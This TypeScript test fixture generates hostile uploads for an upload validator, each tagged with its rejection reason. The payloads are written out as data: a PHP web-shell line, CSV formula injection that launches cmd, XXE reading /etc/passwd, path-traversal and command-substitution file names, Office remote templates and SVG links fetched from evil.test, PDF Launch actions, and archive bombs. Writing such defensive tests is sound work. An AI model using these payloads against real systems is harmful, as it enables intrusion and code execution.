// Hostile uploads, each with the reason for which it must be refused. Made here; nothing of it is stored.
import type { UploadReason } from '../../src/application/index.ts'
import {
  BOUNDARY,
  bmp,
  chunk,
  form,
  type FormPart,
  gif,
  gifComment,
  gzip,
  jpeg,
  jpegComment,
  office,
  openDocument,
  pdf,
  pdfStream,
  png,
  tar,
  tiff,
  webp,
  zip,
  type ZipEntry,
} from './makers.ts'
import { deflateSync } from 'node:zlib'

export interface HostileUpload {
  readonly name: string
  readonly reason: UploadReason
  readonly body: Buffer
  readonly contentType?: string
}

const TEXT = 'just a text\n'
const FORM = `multipart/form-data; boundary=${BOUNDARY}`
const latin = (text: string): Buffer => Buffer.from(text, 'latin1')

function file(name: string, reason: UploadReason, part: FormPart): HostileUpload {
  return { name, reason, body: form([part]) }
}

function* names(): Generator<HostileUpload> {
  const bad = [
    '../a.txt',
    '..\\a.txt'.replace('\\', '/'),
    '/etc/passwd',
    'a/b.txt',
    'C:a.txt',
    'a.txt:stream',
    'a\u202etxt.gpj',
    'a\u2066.txt',
    'a\u200bb.txt',
    '\ufeffa.txt',
    'a\u2024txt',
    'a\uff0etxt',
    'a\u3002txt',
    '\u2025\uff0fa.txt',
    'a\u2215b.txt',
    'a\u2044b.txt',
    'a\u29f8b.txt',
    'a.txt.',
    'a.txt ',
    ' a.txt',
    '.htaccess',
    '.a.txt',
    '-rf.txt',
    '~a.txt',
    'con.txt',
    'NUL',
    'nul.txt',
    'aux.txt',
    'com1.txt',
    'LPT9.txt',
    'com\u00b9.txt',
    'conin$.txt',
    'shell.php.txt',
    'shell.PHP.txt',
    'shell.phtml.png',
    'a.asp;.txt',
    'a.aspx.txt',
    'a.jsp.txt',
    'a.exe.txt',
    'a.php5.txt',
    'a.phar.png',
    'a.php',
    'a.phtml',
    'a.jsp',
    'a.asp',
    'a.exe',
    'a.bat',
    'a.sh',
    'a.hta',
    'a.docm',
    'a.xhtml',
    'a.lnk',
    'a.jar',
    'web.config',
    'desktop.ini',
    'a%00.txt',
    '%2e%2e%2fa.txt',
    '%252e%252e%252fa.txt',
    'a%5cb.txt',
    'a.php%2e.txt',
    'a.%70hp',
    '%2ehtaccess',
    'a*.txt',
    'a?.txt',
    'a|b.txt',
    'a<b>.txt',
    'a`id`.txt',
    'a$(id).txt',
    `${'a'.repeat(252)}.txt`,
    `${'\u00e9'.repeat(130)}.txt`,
    'a.t\u0445t',
    'a.png\u00a0',
    'a\u0378.txt',
    'a\ue000.txt',
    'a\u2028b.txt',
    'a\u2100b.txt',
    'a.tx t',
  ]
  for (const name of bad)
    yield file(`the name ${JSON.stringify(name)}`, 'name', {
      fileName: name,
      type: 'text/plain',
      content: TEXT,
    })
  for (const name of ['a.mp3', 'a.html', 'a.js', 'a.svg', 'a.xml', 'a.css', 'a.py'])
    yield file(`the extension of ${name}`, 'extension', { fileName: name, content: TEXT })
}

function* forms(): Generator<HostileUpload> {
  const disposition = 'Content-Disposition: form-data; name="f"; filename="a.txt"'
  const raw = (name: string, text: string, contentType = FORM): HostileUpload => ({
    name,
    reason: 'unreadable',
    body: latin(text.replaceAll('@', `--${BOUNDARY}`)),
    contentType,
  })
  const whole = `@\r\n${disposition}\r\n\r\nx\r\n@--\r\n`
  yield raw('text before the first boundary', `hello\r\n${whole}`)
  yield raw('an empty line before the first boundary', `\r\n${whole}`)
  yield raw('text behind the last boundary', `${whole}hello`)
  yield raw('a second form behind the first', whole + whole)
  yield raw('bare line feeds', `@\n${disposition}\n\nx\n@--\n`)
  yield raw(
    'a bare line feed before a boundary',
    `@\r\n${disposition}\r\n\r\nx\n@\r\n${disposition}\r\n\r\ny\r\n@--\r\n`,
  )
  yield raw('a boundary within a line', `@\r\n${disposition}\r\n\r\nx@\r\n${disposition}\r\n\r\ny\r\n@--\r\n`)
  yield raw('no last boundary', `@\r\n${disposition}\r\n\r\nx\r\n`)
  yield raw('blanks behind a boundary', whole.replace('@\r\n', '@ \r\n'))
  yield raw('a longer boundary', whole.replace('@\r\n', '@x\r\n'))
  yield raw('no head', `@\r\n\r\nx\r\n@--\r\n`)
  yield raw('no disposition', `@\r\nContent-Type: text/plain\r\n\r\nx\r\n@--\r\n`)
  const heads: readonly (readonly [string, string])[] = [
    ['two dispositions', `${disposition}\r\nContent-Disposition: form-data; name="g"`],
    ['two types', `${disposition}\r\nContent-Type: text/plain\r\nContent-Type: image/png`],
    ['filename twice', 'Content-Disposition: form-data; name="f"; filename="a.txt"; filename="a.php"'],
    ['name twice', 'Content-Disposition: form-data; name="f"; name="g"; filename="a.txt"'],
    ['filename*', `${disposition}; filename*=utf-8''a.php`],
    ['filename* alone', `Content-Disposition: form-data; name="f"; filename*=utf-8''a.php`],
    ['an unquoted name', 'Content-Disposition: form-data; name="f"; filename=a.php'],
    ['an open quote', 'Content-Disposition: form-data; name="f"; filename="a.php'],
    ['an escaped quote', 'Content-Disposition: form-data; name="f"; filename="a.txt\\".php"'],
    ['a backslash', 'Content-Disposition: form-data; name="f"; filename="..\\a.txt"'],
    ['a folded field', 'Content-Disposition: form-data; name="f";\r\n filename="a.txt"'],
    ['a blank before the colon', 'Content-Disposition : form-data; name="f"; filename="a.txt"'],
    ['another disposition', 'Content-Disposition: attachment; name="f"; filename="a.txt"'],
    ['no name', 'Content-Disposition: form-data; filename="a.txt"'],
    ['an unknown part field', `${disposition}\r\nX-Thing: 1`],
    ['base64', `${disposition}\r\nContent-Transfer-Encoding: base64`],
    ['a wrong length', `${disposition}\r\nContent-Length: 7`],
    ['a NUL in the head', 'Content-Disposition: form-data; name="f"; filename="a.php\0.txt"'],
    ['a control character in the head', 'Content-Disposition: form-data; name="f"; filename="a\x01.txt"'],
    ['a name that is not UTF-8', 'Content-Disposition: form-data; name="f"; filename="\xff.txt"'],
    ['an overlong encoding', 'Content-Disposition: form-data; name="f"; filename="\xc0\xae\xc0\xae.txt"'],
    ['an unknown parameter', `${disposition}; size="1"`],
    ['a missing semicolon', 'Content-Disposition: form-data; name="f" filename="a.txt"'],
    ['an empty file name with content', 'Content-Disposition: form-data; name="f"; filename=""'],
    ['an odd type', `${disposition}\r\nContent-Type: image`],
    ['a head without end', `${disposition}; ${'x'.repeat(5000)}`],
  ]
  for (const [name, head] of heads) yield raw(`a part with ${name}`, `@\r\n${head}\r\n\r\nx\r\n@--\r\n`)
  for (const contentType of [
    'multipart/form-data',
    'multipart/form-data; boundary=',
    'multipart/form-data; boundary=a; boundary=b',
    `${FORM}; boundary=x`,
    'multipart/form-data; boundary="a b"',
    `multipart/form-data, boundary=${BOUNDARY}`,
    `multipart/mixed; boundary=${BOUNDARY}`,
    `multipart/related; boundary=${BOUNDARY}`,
    `multipart/form-data; boundary*=${BOUNDARY}`,
    `multipart/form-data; boundary="${BOUNDARY}`,
    `multipart/form-data; boundary=${'x'.repeat(71)}`,
  ])
    yield raw(`the form type ${contentType.slice(0, 60)}`, whole, contentType)
  yield {
    name: 'a form that names its character set',
    reason: 'unreadable',
    body: form([{ name: '_charset_', content: 'utf-7' }]),
  }
  yield {
    name: 'a field that is a file too',
    reason: 'unreadable',
    body: form([
      { name: 'a', content: 'x' },
      { name: 'a', fileName: 'a.txt', content: 'x' },
    ]),
  }
  yield {
    name: 'too many files',
    reason: 'count',
    body: form(Array.from({ length: 21 }, () => ({ fileName: 'a.txt', content: 'x' }))),
  }
  yield {
    name: 'too many fields',
    reason: 'count',
    body: form(Array.from({ length: 201 }, (_, i) => ({ name: `f${i}`, content: 'x' }))),
  }
  yield { name: 'a large field', reason: 'size', body: form([{ content: 'x'.repeat(300_000) }]) }
  yield file('a large file', 'size', { fileName: 'a.txt', content: 'x'.repeat(3_000_000) })
}

function* pictures(): Generator<HostileUpload> {
  const made: Readonly<Record<string, Buffer>> = {
    png: png(8, 8),
    jpg: jpeg(8, 8),
    gif: gif(8, 8),
    webp: webp(8, 8),
    bmp: bmp(8, 8),
  }
  const archive = zip([{ path: 'a.class', content: 'x' }])
  const tails: readonly (readonly [string, Buffer])[] = [
    ['an archive', archive],
    ['PHP', latin('<?php system($_GET[0]);')],
    ['a script', latin('<script>alert(1)</script>')],
    ['a program', latin('MZ\x90\0\x03')],
    ['text', latin('hello')],
  ]
  for (const [kind, picture] of Object.entries(made))
    for (const [what, tail] of tails)
      yield file(`${what} behind a ${kind}`, 'polyglot', {
        fileName: `a.${kind}`,
        content: Buffer.concat([picture, tail]),
      })
  const marks = [
    '<script>alert(1)</script>',
    '<?php system(1) ?>',
    '<%eval request(1)%>',
    '<svg onload=x>',
    '<html><body>',
    '<?= system(1) ; ?>',
    '<iframe src=x>',
    '<!ENTITY x>',
    '<%@ page import="x"%>',
    '<\0s\0c\0r\0i\0p\0t\0>\0',
  ]
  for (const mark of marks) {
    const text = JSON.stringify(mark)
    yield file(`${text} in a PNG`, 'polyglot', {
      fileName: 'a.png',
      content: png(8, 8, [chunk('tEXt', latin(`Comment\0${mark}`))]),
    })
    yield file(`${text} in a JPEG`, 'polyglot', {
      fileName: 'a.jpg',
      content: jpeg(8, 8, [jpegComment(mark)]),
    })
    yield file(`${text} in a GIF`, 'polyglot', { fileName: 'a.gif', content: gif(8, 8, 1, gifComment(mark)) })
  }
  yield file('script in packed text of a PNG', 'polyglot', {
    fileName: 'a.png',
    content: png(8, 8, [
      chunk('zTXt', Buffer.concat([latin('Comment\0\0'), deflateSync('<script>x</script>')])),
    ]),
  })
  yield file('packed text that unpacks to much', 'image-bomb', {
    fileName: 'a.png',
    content: png(8, 8, [
      chunk('zTXt', Buffer.concat([latin('Comment\0\0'), deflateSync(Buffer.alloc(9_000_000))])),
    ]),
  })
  yield file('a JPEG that is a script', 'polyglot', {
    fileName: 'a.jpg',
    content: Buffer.concat([
      latin('\xff\xd8\xff\xe0\x2f\x2aJFIF\0\x01\x01\0\0\x01\0\x01\0\0'),
      Buffer.alloc(12_058),
      jpeg(8, 8).subarray(20),
    ]),
  })
  yield file('a JPEG whose comment ends a script', 'polyglot', {
    fileName: 'a.jpg',
    content: jpeg(8, 8, [jpegComment('*/=alert(1)/*')]),
  })
  yield file('a GIF that is a script', 'image-bomb', {
    fileName: 'a.gif',
    content: Buffer.concat([latin('GIF89a/*\xff\xff'), gif(8, 8).subarray(10)]),
  })
  for (const [kind, bomb] of Object.entries({
    png: png(8, 8, [], [60_000, 60_000]),
    jpg: jpeg(65_000, 65_000),
    gif: gif(60_000, 60_000),
    webp: webp(16_000, 16_000),
    bmp: bmp(8, 8, [60_000, 60_000]),
    tif: tiff(60_000, 60_000),
  }))
    yield file(`a ${kind} of too many pixels`, 'image-bomb', { fileName: `a.${kind}`, content: bomb })
  yield file('a GIF of too many frames', 'image-bomb', { fileName: 'a.gif', content: gif(8, 8, 1001) })
  yield file('a PNG of too many frames', 'image-bomb', {
    fileName: 'a.png',
    content: png(8, 8, [chunk('acTL', Buffer.from([0, 1, 0, 0, 0, 0, 0, 0]))]),
  })
  yield file('a TIFF that goes in a circle', 'damaged', { fileName: 'a.tif', content: tiff(8, 8, 12) })
  for (const [kind, picture] of Object.entries(made))
    yield file(`a ${kind} that is cut off`, 'damaged', {
      fileName: `a.${kind}`,
      content: picture.subarray(0, Math.max(27, picture.length - 5)),
    })
  yield file('a PNG with a wrong check', 'damaged', {
    fileName: 'a.png',
    content: Buffer.from(png(8, 8).map((one, i) => (i === 20 ? 9 : one))),
  })
  yield file('an odd chunk in a WebP', 'polyglot', {
    fileName: 'a.webp',
    content: webp(8, 8, latin('EVIL\x02\0\0\0xx')),
  })
}

function* types(): Generator<HostileUpload> {
  yield file('a text called PNG', 'type-mismatch', { fileName: 'a.png', content: TEXT })
  yield file('a text declared PNG', 'type-mismatch', { fileName: 'a.txt', type: 'image/png', content: TEXT })
  yield file('a PNG called JPEG', 'type-mismatch', { fileName: 'a.jpg', content: png(8, 8) })
  yield file('a PDF declared PNG', 'type-mismatch', { fileName: 'a.pdf', type: 'image/png', content: pdf() })
  yield file('a ZIP called DOCX', 'type-mismatch', {
    fileName: 'a.docx',
    content: zip([{ path: 'a', content: 'x' }]),
  })
  yield file('a DOCX called ZIP', 'type-mismatch', { fileName: 'a.zip', content: office('word') })
  yield file('JSON that is none', 'type-mismatch', { fileName: 'a.json', content: '{"a":' })
  yield file('deep JSON', 'archive-bomb', { fileName: 'a.json', content: '['.repeat(100) + ']'.repeat(100) })
  yield file('a CSV with an open quote', 'type-mismatch', { fileName: 'a.csv', content: 'a,"b\n' })
  yield file('text with control characters', 'type', {
    fileName: 'a.txt',
    content: Buffer.from([65, 0, 66, 1, 67]),
  })
  yield file('text in UTF-16', 'type', {
    fileName: 'a.txt',
    content: Buffer.from('\ufeff<script>', 'utf16le'),
  })
  yield file('random bytes', 'type', {
    fileName: 'a.png',
    content: Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 91 + 128) & 255)),
  })
  yield file('a sound', 'extension', { fileName: 'a.wav', content: latin('RIFF\x24\0\0\0WAVEfmt ') })
  for (const begin of [
    '<script>x</script>',
    '<!DOCTYPE html>',
    '<html>',
    '<?php x',
    '<%=x%>',
    '#!/bin/sh',
    '<iframe>',
    '<?xml version="1.0"?>',
  ])
    yield file(
      `a text that begins ${begin}`,
      begin.startsWith('#!') || begin.startsWith('<?php') ? 'executable' : 'active-content',
      { fileName: 'a.txt', content: `${begin}\n` },
    )
  for (const cell of [
    '=HYPERLINK("http://x")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)',
    "+cmd|' /C calc'!A0",
    "-2+cmd|' /C calc'!A0",
    '"=IMPORTXML(A1)"',
    ' =WEBSERVICE("x")',
  ])
    yield file(`the cell ${cell}`, cell.startsWith('=H') ? 'type-mismatch' : 'active-content', {
      fileName: 'a.csv',
      content: cell.startsWith('=H') ? `a,"${cell}"\n` : `a,${cell}\n`,
    })
  for (const [what, magic] of [
    ['Windows', 'MZ\x90\0'],
    ['Linux', '\x7fELF\x02'],
    ['Java', '\xca\xfe\xba\xbe'],
    ['macOS', '\xcf\xfa\xed\xfe'],
    ['Android', 'dex\n035'],
    ['WebAssembly', '\0asm\x01'],
    ['shortcut', 'L\0\0\0\x01\x14\x02\0'],
  ] as const)
    yield file(`a program (${what}) called PNG`, 'executable', {
      fileName: 'a.png',
      type: 'image/png',
      content: Buffer.concat([latin(magic), Buffer.alloc(64)]),
    })
}

function* documents(): Generator<HostileUpload> {
  const acts = [
    '/OpenAction << /S /JavaScript /JS (x) >>',
    '/OpenAction << /S /J#61vaScript /JS (x) >>',
    '/AA << /O << /S /Launch /F (calc) >> >>',
    '/Names << /EmbeddedFiles 3 0 R >>',
    '/AcroForm << /XFA 3 0 R >>',
    '/A << /S /SubmitForm >>',
    '/A << /S /GoToE >>',
    '/A << /S /ImportData >>',
    '/RichMedia 3 0 R',
    '/A << /S /URI /URI (javascript:x) >>',
  ]
  for (const act of acts)
    yield file(`a PDF with ${act}`, 'active-content', { fileName: 'a.pdf', content: pdf([], act) })
  yield file('an encrypted PDF', 'encrypted', { fileName: 'a.pdf', content: pdf([], '/Encrypt 3 0 R') })
  yield file('JavaScript in an object stream', 'active-content', {
    fileName: 'a.pdf',
    content: pdf([pdfStream('/Type /ObjStm /N 1 /First 4', latin('7 0 << /S /JavaScript >>'))]),
  })
  yield file('JavaScript in an object stream of no type', 'active-content', {
    fileName: 'a.pdf',
    content: pdf([pdfStream('/N 1 /First 4', latin('7 0 << /S /JavaScript >>'))]),
  })
  yield file('JavaScript behind a false stream', 'active-content', {
    fileName: 'a.pdf',
    content: pdf([
      '3 0 obj (>>\nstream\n) endobj\n4 0 obj << /S /JavaScript >> endobj\n5 0 obj <<>>\nstream\nx\nendstream\nendobj\n',
    ]),
  })
  yield file('an object stream packed otherwise', 'encrypted', {
    fileName: 'a.pdf',
    content: pdf(['3 0 obj << /Type /ObjStm /Filter /LZWDecode >>\nstream\nx\nendstream\nendobj\n']),
  })
  yield file('an archive behind a PDF', 'polyglot', {
    fileName: 'a.pdf',
    content: Buffer.concat([pdf(), zip([{ path: 'a', content: 'x' }])]),
  })
  yield file('an archive in a PDF', 'polyglot', {
    fileName: 'a.pdf',
    content: Buffer.concat([pdf(), zip([{ path: 'a', content: 'x' }], { comment: '%%EOF\n' })]),
  })
  yield file('HTML at the head of a PDF', 'polyglot', {
    fileName: 'a.pdf',
    content: pdf(['% <script>x</script>\n']),
  })
  yield file('PHP in a PDF', 'polyglot', {
    fileName: 'a.pdf',
    content: pdf([`% ${' '.repeat(2000)}<?php x\n`]),
  })
  const parts: readonly (readonly [UploadReason, 'word' | 'xl' | 'ppt', ZipEntry])[] = [
    ['macro', 'word', { path: 'word/vbaProject.bin', content: 'x' }],
    ['macro', 'xl', { path: 'xl/vbaProject.bin', content: 'x' }],
    ['macro', 'ppt', { path: 'ppt/vbaProject.bin', content: 'x' }],
    ['macro', 'word', { path: 'customName/vbaProject.bin', content: 'x' }],
    ['macro', 'xl', { path: 'xl/macrosheets/sheet1.xml', content: '<x/>' }],
    ['macro', 'word', { path: 'word/activeX/activeX1.xml', content: '<x/>' }],
    ['macro', 'word', { path: 'word/embeddings/oleObject1.bin', content: 'x' }],
    [
      'macro',
      'word',
      {
        path: '[Content_Types].xml',
        content: '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      },
    ],
    [
      'macro',
      'word',
      {
        path: 'word/footer1.xml',
        content: '<w:instrText>DDEAUTO </w:instrText><w:instrText>c:\\x</w:instrText>',
      },
    ],
    ['macro', 'xl', { path: 'xl/externalLinks/externalLink1.xml', content: '<ddeLink ddeService="cmd"/>' }],
    [
      'active-content',
      'word',
      {
        path: 'word/_rels/settings.xml.rels',
        content:
          '<Relationship Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>',
      },
    ],
    [
      'active-content',
      'word',
      {
        path: 'word/_rels/document.xml.rels',
        content:
          '<Relationship Type="http://x/oleObject" Target="mhtml:http://evil.test!x" TargetMode="External"/>',
      },
    ],
    [
      'active-content',
      'word',
      {
        path: 'word/_rels/a.xml.rels',
        content: '<Relationship Type="http://x/image" Target="http://evil.test" TargetMode="&#69;xternal"/>',
      },
    ],
    [
      'active-content',
      'word',
      {
        path: 'word/_rels/a.xml.rels',
        content: '<Relationship Type="http://x/hyperlink" Target="file:///c:/x" TargetMode="External"/>',
      },
    ],
    ['active-content', 'word', { path: 'word/footer1.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }],
    ['executable', 'word', { path: 'word/media/image1.png', content: latin('MZ\0\0') }],
  ]
  for (const [reason, folder, part] of parts)
    yield file(`an office document with ${part.path} (${reason})`, reason, {
      fileName: `a.${{ word: 'docx', xl: 'xlsx', ppt: 'pptx' }[folder]}`,
      content: office(folder, [part]),
    })
  yield file('an ODT with Basic', 'macro', {
    fileName: 'a.odt',
    content: openDocument('text', [{ path: 'Basic/Standard/Module1.xml', content: '<x/>' }]),
  })
  yield file('an ODS with an event', 'macro', {
    fileName: 'a.ods',
    content: openDocument('spreadsheet', [{ path: 'x.xml', content: '<script:event-listener/>' }]),
  })
}

function* archives(): Generator<HostileUpload> {
  const bad = [
    '../a',
    'a/../../b',
    '/etc/passwd',
    'C:/a',
    'a\\..\\b',
    'a\0.txt',
    'a\nb',
    'a//b',
    'a./b',
    'b /c',
    '.htaccess',
    'x/web.config',
    'a.exe',
    'a.php',
    'a.lnk',
    'a\u202eb',
    'x'.repeat(1100),
  ]
  for (const path of bad)
    yield file(`a ZIP with ${JSON.stringify(path.slice(0, 30))}`, 'archive', {
      fileName: 'a.zip',
      content: zip([{ path, content: 'x' }]),
    })
  const one: ZipEntry = { path: 'a.txt', content: 'x' }
  const zips: readonly (readonly [string, UploadReason, Buffer])[] = [
    ['an encrypted entry', 'encrypted', zip([{ ...one, flags: 1 }])],
    ['strong encryption', 'encrypted', zip([{ ...one, flags: 0x41 }])],
    ['a symbolic link', 'archive', zip([{ ...one, mode: 0xa1ff }])],
    ['a device', 'archive', zip([{ ...one, mode: 0x61ff }])],
    ['two heads', 'archive', zip([{ ...one, localPath: 'b.txt' }])],
    ['a wrong size', 'archive', zip([{ ...one, size: 9 }])],
    ['a wrong check', 'damaged', zip([{ ...one, crc: 9 }])],
    ['a name twice', 'archive', zip([one, { path: 'A.TXT', content: 'y' }])],
    ['a gap', 'archive', zip([one], { gap: latin('hello') })],
    ['a wrong count', 'archive', zip([one, { path: 'b', content: 'y' }], { count: 1 })],
    ['something before it', 'archive', Buffer.concat([latin('PK\x03\x04'), zip([one])])],
    ['something behind it', 'archive', Buffer.concat([zip([one]), latin('hello')])],
    ['an odd method', 'archive', zip([{ ...one, method: 12 }])],
    ['a bomb by ratio', 'archive-bomb', zip([{ path: 'a', content: Buffer.alloc(4_000_000) }])],
    ['too many entries', 'archive-bomb', zip(Array.from({ length: 1001 }, (_, i) => ({ path: `${i}` })))],
    [
      'archives too deep',
      'archive-bomb',
      zip([
        {
          path: 'a.zip',
          content: zip([{ path: 'b.zip', content: zip([{ path: 'c.zip', content: zip([one]) }]) }]),
        },
      ]),
    ],
    ['a program', 'executable', zip([{ path: 'readme', content: latin('\x7fELF') }])],
    [
      'a macro document',
      'macro',
      zip([{ path: 'a.docx', content: office('word', [{ path: 'word/vbaProject.bin', content: 'x' }]) }]),
    ],
    [
      'traversal within a ZIP within',
      'archive',
      zip([{ path: 'a.zip', content: zip([{ path: '../x', content: 'x' }]) }]),
    ],
    ['a folder with content', 'archive', zip([{ path: 'a/', content: 'x' }])],
  ]
  for (const [what, reason, content] of zips)
    yield file(`a ZIP with ${what}`, reason, { fileName: 'a.zip', content })
  yield file('a bomb of gzip', 'archive-bomb', { fileName: 'a.gz', content: gzip(Buffer.alloc(4_000_000)) })
  yield file('gzip with text behind it', 'polyglot', {
    fileName: 'a.gz',
    content: Buffer.concat([gzip('x'), latin('hello')]),
  })
  yield file('a gzip bomb in a gzip', 'archive-bomb', {
    fileName: 'a.gz',
    content: gzip(gzip(Buffer.alloc(4_000_000))),
  })
  yield file('a gzip that is cut off', 'damaged', {
    fileName: 'a.gz',
    content: gzip('hello'.repeat(50)).subarray(0, 20),
  })
  yield file('a program in gzip', 'executable', { fileName: 'a.gz', content: gzip(latin('\x7fELF')) })
  const tars: readonly (readonly [string, UploadReason, Buffer])[] = [
    ['traversal', 'archive', tar([{ path: '../a', content: 'x' }])],
    ['an absolute path', 'archive', tar([{ path: '/a', content: 'x' }])],
    ['a symbolic link', 'archive', tar([{ path: 'a', kind: '2' }])],
    ['a hard link', 'archive', tar([{ path: 'a', kind: '1' }])],
    ['a device', 'archive', tar([{ path: 'a', kind: '3' }])],
    ['a name twice', 'archive', tar([{ path: 'a' }, { path: 'a' }])],
    ['a new name', 'archive', tar([{ path: 'x', kind: 'x', content: '15 path=../abc\n' }, { path: 'a' }])],
    ['a long name', 'archive', tar([{ path: 'x', kind: 'L', content: '../a\0' }, { path: 'a' }])],
    ['a size of its own', 'archive', tar([{ path: 'x', kind: 'x', content: '9 size=1\n' }, { path: 'a' }])],
    ['text behind it', 'polyglot', Buffer.concat([tar([{ path: 'a' }]), latin('hello')])],
    [
      'a wrong check',
      'damaged',
      Buffer.concat([tar([{ path: 'a' }]).subarray(0, 512), Buffer.alloc(512, 65)]),
    ],
  ]
  for (const [what, reason, content] of tars) {
    yield file(`a tar with ${what}`, reason, { fileName: 'a.tar', content })
    yield file(`a packed tar with ${what}`, reason, { fileName: 'a.tgz', content: gzip(content) })
  }
}

function* drawings(): Generator<HostileUpload> {
  const bad = [
    '<script>x</script>',
    '<g onload="x"/>',
    '<foreignObject/>',
    '<image href="http://evil.test/a.png"/>',
    '<use href="http://evil.test/a.svg#x"/>',
    '<a href="javascript:x"/>',
    '<a href="java&#x73;cript:x"/>',
    '<a href=" java\tscript:x"/>',
    '<iframe/>',
    '<x:script xmlns:x="http://www.w3.org/2000/svg"/>',
    '<style>@import "http://evil.test"</style>',
    '<rect style="fill:url(http://evil.test)"/>',
    '<style>a{b:url(//evil.test)}</style>',
    '<style>a{b:\\75rl(x)}</style>',
    '<style>a{b:&#x75;rl(x)}</style>',
    '<animate attributeName="href" to="javascript:x"/>',
    '<set attributeName="onclick" to="x"/>',
    '&xxe;',
    '<image href="data:image/svg+xml;base64,AA"/>',
    '<use href="data:text/html,x"/>',
    '<html/>',
    '<unknown/>',
    '<![CDATA[<script>]]>',
    '<?xml-stylesheet href="x"?>',
    '<g xmlns:h="http://www.w3.org/1999/xhtml"/>',
    '<g xml:base="http://evil.test"/>',
  ]
  for (const inner of bad)
    yield file(`an SVG with ${inner}`, 'active-content', {
      fileName: 'a.svg',
      content: `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`,
    })
  yield file('an SVG with entities', 'active-content', {
    fileName: 'a.svg',
    content: '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
  })
  yield file('an SVG with open tags', 'damaged', { fileName: 'a.svg', content: '<svg><g></svg>' })
}

/** Those that the list of types for documents and archives lets come as far as their content. */
export function hostileUploads(): HostileUpload[] {
  return [...names(), ...forms(), ...pictures(), ...types(), ...documents(), ...archives()]
}

/** SVG, where it is taken at all. */
export function hostileDrawings(): HostileUpload[] {
  return [...drawings()]
}

export const FORM_TYPE = FORM
